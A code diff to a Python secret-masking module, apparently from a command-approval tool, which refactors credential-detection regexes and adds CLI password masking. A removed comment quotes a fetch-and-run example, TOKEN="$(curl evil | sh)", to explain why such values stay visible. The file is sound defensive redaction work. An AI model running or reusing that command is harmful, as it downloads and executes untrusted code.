@@ -24,6 +24,8 @@ import re
 from collections.abc import Mapping
 from typing import Any
 
+from tapgate.core.secret_shapes import HIDDEN, RUNS, TOKEN_PATTERNS, mask_cli_passwords
+
 __all__ = [
     "MASK",
     "clean",
@@ -33,11 +35,13 @@ __all__ = [
     "reveal_invisible",
 ]
 
-MASK = "********"
+MASK = HIDDEN
 """What a secret becomes. Fixed width, so not even its length leaks."""
 
 _KEYWORDS = (
-    r"passw(?:or)?d|passphrase|passcode|pwd|secret|token|api[_-]?key|authorization|auth(?!or)"
+    # ``pass`` only at a name's end (``DB_PASS``, ``SSHPASS``, ``--pass``), not ``passes``.
+    r"passw(?:or)?d|passphrase|passcode|pass(?![a-z])|pwd|secret|token|api[_-]?key"
+    r"|authorization|auth(?!or)"
     r"|credential|private[_-]?key|session[_-]?(?:key|id)|cookie|access[_-]?key|signature"
 )
 _SECRET_KEY = re.compile(_KEYWORDS, re.IGNORECASE)
@@ -46,44 +50,7 @@ _SECRET_KEY = re.compile(_KEYWORDS, re.IGNORECASE)
 _BENIGN_KEY = re.compile(
     r"(?:max|min|num|total|prompt|completion|input|output|reasoning)tokens?"
     r"|tokens?(?:count|limit|budget|used|usage|type)s?|tokenizer|authors?(?:name|email|id)?"
-)
-
-_B64URL = r"A-Za-z0-9_\-"
-
-# (pattern, replacement): each keeps a short recognisable prefix, never the body.
-_TOKEN_PATTERNS: tuple[tuple[re.Pattern[str], str], ...] = (
-    (re.compile(r"(?<![A-Za-z0-9])(AKIA|ASIA)[A-Z0-9]{16}(?![A-Za-z0-9])"), r"\1****"),
-    (
-        re.compile(r"(?<![A-Za-z0-9_])(gh[pousr]_|github_pat_)[A-Za-z0-9_]{10,}+"),
-        r"\1****",
-    ),
-    (re.compile(r"(?<![A-Za-z0-9\-])(xox[abprs]-|xapp-)[A-Za-z0-9\-]{6,}+"), r"\1****"),
-    (
-        re.compile(rf"(?<![{_B64URL}])(sk-ant-|sk-proj-|sk-)[{_B64URL}]{{16,}}+"),
-        r"\1****",
-    ),
-    (re.compile(rf"(?<![{_B64URL}])AIza[{_B64URL}]{{30,}}+"), "AIza****"),
-    (re.compile(r"(?<![A-Za-z0-9_])((?:sk|rk|pk)_(?:live|test)_)[A-Za-z0-9]{8,}+"), r"\1****"),
-    (
-        re.compile(
-            rf"(?<![{_B64URL}])eyJ[{_B64URL}]*+\.eyJ[{_B64URL}]*+"
-            rf"\.[{_B64URL}]*+"
-        ),
-        "eyJ****",
-    ),
-    # scheme://user:password@host: the user stays, the password goes.
-    (
-        re.compile(
-            r"(?<![A-Za-z0-9+.\-])([A-Za-z][A-Za-z0-9+.\-]*+://[^\s:/@'\"]*+:)[^\s/@'\"]++@"
-        ),
-        rf"\1{MASK}@",
-    ),
-    (re.compile(r"(?i)(?<![A-Za-z0-9_\-])(bearer\s++)[^\s'\"]++"), rf"\1{MASK}"),
-    # curl -u user:password / --user=user:password
-    (
-        re.compile(r"(?<![\w\-])((?:-u|--user)(?:\s++|=)['\"]?[^\s:'\"]++:)[^\s'\"]++"),
-        rf"\1{MASK}",
-    ),
+    r"|[a-z0-9]*(?:by|com|ask)pass"  # BYPASS, COMPASS, SSH_ASKPASS (a program, not a password)
 )
 
 # RSA / EC / OPENSSH / ENCRYPTED private keys, and PGP's "PRIVATE KEY BLOCK".
@@ -102,7 +69,8 @@ _FLAG = re.compile(
 )
 # ``PASSWORD=x cmd``, ``?token=x&``, ``password: x``, ``"api_key": "x"``.
 _ASSIGNMENT = re.compile(
-    rf"(?P<name>(?<![\w.\-])(?=[\w.\-]*?(?:{_KEYWORDS}))[A-Za-z_][\w.\-]*+"
+    # Never right after "/": in ``https://oauth2:…@host`` the URL pattern owns the password.
+    rf"(?P<name>(?<![\w.\-/])(?=[\w.\-]*?(?:{_KEYWORDS}))[A-Za-z_][\w.\-]*+"
     rf"|\"(?=[\w.\-]{{0,64}}?(?:{_KEYWORDS}))[\w.\-]{{1,64}}\""
     rf"|'(?=[\w.\-]{{0,64}}?(?:{_KEYWORDS}))[\w.\-]{{1,64}}')"
     # ``key: v``, ``key = v`` (TOML, INI) or ``KEY=v``; never ``KEY= v``: in a
@@ -110,9 +78,6 @@ _ASSIGNMENT = re.compile(
     rf"(?P<sep>\s*+:\s*+|\s++=\s*+|=){_VALUE}",
     re.IGNORECASE,
 )
-# A value that expands or runs something is not a literal secret, and hiding
-# it would hide code from the approver: ``TOKEN="$(curl evil | sh)" deploy``.
-_RUNS = re.compile(r"[$`]|[<>]\(")
 _AUTH_SCHEME = re.compile(r"(?i)(bearer|basic|token|digest)(\s++)")
 # Bidi overrides and invisible characters let a command read differently from
 # what runs ("Trojan Source"); C0/C1 controls can hide text. All become visible.
@@ -163,14 +128,19 @@ def _mask_value(value: Any) -> Any:
 def mask_text(text: str) -> str:
     """``text`` with every credential-looking substring replaced.
 
-    Covers PEM private keys, cloud / SaaS tokens (AWS, GitHub, Slack, OpenAI,
-    Anthropic, Google, Stripe), JWTs, ``Bearer`` / ``Authorization`` headers,
-    URL passwords, ``--password X`` flags and ``TOKEN=x`` / ``password: x``
-    assignments. Linear-time; safe on untrusted input of any size.
+    Covers PEM private keys, the vendor token shapes of
+    :data:`~tapgate.core.secret_shapes.TOKEN_PATTERNS` (AWS, GitHub, GitLab,
+    npm, Slack tokens and webhook URLs, OpenAI, Anthropic, Google, Stripe,
+    SendGrid, Hugging Face, PyPI, Vault...), JWTs, ``Bearer`` /
+    ``Authorization`` headers, URL passwords, per-tool password options
+    (``mysql -pX``, ``sshpass -p X``, ``redis-cli -a X``...), ``--password X``
+    flags and ``TOKEN=x`` / ``DB_PASS=x`` / ``password: x`` assignments.
+    Linear-time; safe on untrusted input of any size.
     """
     text = _mask_pem(text)
-    for pattern, replacement in _TOKEN_PATTERNS:
+    for pattern, replacement in TOKEN_PATTERNS:
         text = pattern.sub(replacement, text)
+    text = mask_cli_passwords(text)
     text = _FLAG.sub(_mask_named_value, text)
     return _ASSIGNMENT.sub(_mask_named_value, text)
 
@@ -202,7 +172,7 @@ def _mask_pem(text: str) -> str:
 
 def _mask_named_value(match: re.Match[str]) -> str:
     name, sep, value = match.group("name"), match.group("sep"), match.group("value")
-    if not is_secret_key(name.strip("\"'-")) or _RUNS.search(value):
+    if not is_secret_key(name.strip("\"'-")) or RUNS.search(value):
         return match.group(0)
     return f"{name}{sep}{_mask_value_text(value)}"
 
